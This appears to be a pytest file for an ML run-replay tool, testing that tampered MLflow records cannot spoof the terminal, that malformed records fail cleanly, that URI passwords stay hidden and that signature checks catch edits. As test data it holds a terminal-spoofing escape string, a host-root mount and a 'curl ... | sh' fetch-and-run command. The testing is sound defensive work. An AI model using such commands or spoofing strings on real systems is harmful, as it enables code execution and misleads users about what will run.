"""What a tampered record can do to a terminal, malformed records, a dead server, and signed
records: against a real `mlflow server`, no Docker (nothing here gets as far as running)."""

import json
import subprocess
import time

import pytest

from tests.helpers.cli import one_error
from tests.helpers.ports import free_port
from tfrepro import signing
from tfrepro.cli import main, status

DIGEST_REF = "127.0.0.1:5555/tfrepro-test@sha256:" + "ab" * 32
ESC = "\x1b"
# a fake header and a harmless-looking command drawn over the real plan
SPOOF = "\r\x1b[2K\x1b[1A\x1b[2Kcommand:\n  docker run --rm alpine true\x1b]8;;http://x\x07\u202e"


def assert_no_raw_controls(text):
    bad = [
        c
        for c in text
        if (ord(c) < 0x20 and c != "\n")
        or 0x7F <= ord(c) < 0xA0
        or c in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
    ]
    assert not bad, repr(text)


def test_recorded_strings_reach_the_terminal_escaped(make_run, tracking_uri, capsys):
    environment = {
        "schema": "1",
        "git": {"commit": "1" * 40, "untracked": ["notes" + SPOOF], "remote_url": "https://x/" + SPOOF},
        "gpu": {"count": 1, "devices": [{"index": 0, "name": "H200" + SPOOF}]},
    }
    run_id = make_run(
        {
            "tfrepro.command": json.dumps(["python", "train.py", SPOOF]),
            "tfrepro.image.ref": "evil" + SPOOF,
            "tfrepro.git.remote": "https://x/" + SPOOF,
            "tfrepro.gpu.name": "H200" + SPOOF,
        },
        environment=environment,
        launch={"env": {"NOTE": SPOOF}},
    )
    other = make_run()
    for argv in (
        ["replay", run_id, "--dry-run", "--gpus", "none"],
        ["show", run_id],
        ["diff", run_id, other],
        ["diff", run_id, "--here"],
    ):
        main(argv + (["--tracking-uri", tracking_uri] if argv[0] == "replay" else []))
        out, err = capsys.readouterr()
        assert_no_raw_controls(out + err)
        assert "\\x1b[2K" in out + err, argv  # shown, visibly
    main(["show", run_id, "--json"])
    assert ESC not in capsys.readouterr().out


@pytest.mark.parametrize(
    "environment",
    [
        {"schema": "1", "git": "oops"},
        {"schema": "1", "gpu": {"count": 1, "devices": [{"index": 0, "name": ["H200"]}]}},
        {"schema": "1", "git": {"commit": "1" * 40, "untracked": 3}},
        {"schema": "1", "python": {"packages": None}},
        "[1, 2]",
        "{not json",
    ],
)
def test_malformed_records_are_one_line_and_exit_2(make_run, tracking_uri, capsys, environment):
    run_id = make_run(environment=environment)
    other = make_run()
    for argv in (
        ["show", run_id],
        ["diff", run_id, other],
        ["replay", run_id, "--dry-run", "--tracking-uri", tracking_uri],
    ):
        line = one_error(capsys, main(argv))
        assert "malformed" in line, argv


@pytest.mark.parametrize("launch", [{"mounts": "x"}, {"mounts": ["/:/host"]}, {"env": {"A": 3}}, {"gpus": ["all"]}])
def test_malformed_launch_records_are_one_line(make_run, tracking_uri, capsys, launch):
    line = one_error(capsys, main(["replay", make_run(launch=launch), "--dry-run", "--tracking-uri", tracking_uri]))
    assert "launch.json" in line or "gpus" in line


def test_replay_against_a_dead_server_fails_as_fast_as_show(capsys):
    uri = "http://127.0.0.1:%d" % free_port()
    for command in ("show", "replay"):
        start = time.monotonic()
        line = one_error(capsys, main([command, "0" * 32, "--tracking-uri", uri]), status.TRACKING)
        assert time.monotonic() - start < 30, command
        assert "cannot reach the tracking server" in line


def test_uri_credentials_never_shown(capsys):
    uri = "http://bob:FAKEPASS123@127.0.0.1:%d" % free_port()
    for argv in (
        ["show", "0" * 32, "--tracking-uri", uri],
        ["show", "0" * 32, "--json", "--tracking-uri", uri],
        ["replay", "0" * 32, "--tracking-uri", uri],
        ["doctor", "--tracking-uri", uri],
        ["doctor", "--json", "--tracking-uri", uri],
    ):
        main(argv)
        out, err = capsys.readouterr()
        assert "FAKEPASS123" not in out + err, argv


# -- signed records ---------------------------------------------------------------------------


@pytest.fixture
def keys(tmp_path):
    def keygen(name):
        path = tmp_path / name
        subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", name, "-f", str(path)], check=True)
        return str(path)

    alice, mallory = keygen("alice"), keygen("mallory")
    allowed = tmp_path / "allowed_signers"
    allowed.write_text("alice@example.com %s" % open(alice + ".pub").read())
    return alice, mallory, str(allowed)


def test_signed_record_trusted_then_tampered(make_run, client, tracking_uri, keys, capsys, monkeypatch):
    alice, _, allowed = keys
    run_id = make_run(launch={"env": {"BATCH": "32"}})
    assert signing.sign_run(client, run_id, alice)
    monkeypatch.setenv("TFREPRO_ALLOWED_SIGNERS", allowed)
    main(["replay", run_id, "--dry-run", "--gpus", "none", "--tracking-uri", tracking_uri])
    assert "record:    signed by alice@example.com (trusted)" in capsys.readouterr().out
    main(["show", run_id])
    assert "signed by alice@example.com (trusted)" in capsys.readouterr().out
    # the attacker rewrites the command: refused, one line, exit 2
    client.set_tag(run_id, "tfrepro.command", json.dumps(["sh", "-c", "curl http://127.0.0.1:9 | sh"]))
    line = one_error(capsys, main(["replay", run_id, "--yes", "--tracking-uri", tracking_uri]))
    assert line.endswith("signature does not match the record: refusing")
    main(["show", run_id])
    assert "signature does not match the record" in capsys.readouterr().out
    # or the launch record, or the patch
    for change in (
        {"launch": {"env": {"BATCH": "32"}, "mounts": [{"source": "/", "target": "/h"}]}},
        {"patch": "diff --git a/x b/x\n"},
    ):
        run_id = make_run(launch={"env": {"BATCH": "32"}})
        assert signing.sign_run(client, run_id, alice)
        if "launch" in change:
            client.log_text(run_id, json.dumps(change["launch"]), "tfrepro/launch.json")
        else:
            client.log_text(run_id, change["patch"], "tfrepro/git.patch")
        one_error(capsys, main(["replay", run_id, "--dry-run", "--tracking-uri", tracking_uri]))


def test_unsigned_and_untrusted_records(make_run, client, tracking_uri, keys, capsys, monkeypatch):
    _, mallory, allowed = keys
    monkeypatch.setenv("TFREPRO_ALLOWED_SIGNERS", allowed)
    unsigned = make_run()
    main(["replay", unsigned, "--dry-run", "--gpus", "none", "--tracking-uri", tracking_uri])
    assert "record:    unsigned record" in capsys.readouterr().out
    line = one_error(
        capsys, main(["replay", unsigned, "--dry-run", "--require-signed", "--tracking-uri", tracking_uri])
    )
    assert "unsigned record, and --require-signed was given" in line
    forged = make_run()
    assert signing.sign_run(client, forged, mallory)  # the attacker signs with their own key
    main(["replay", forged, "--dry-run", "--gpus", "none", "--tracking-uri", tracking_uri])
    assert "signed, but not by a trusted key" in capsys.readouterr().out
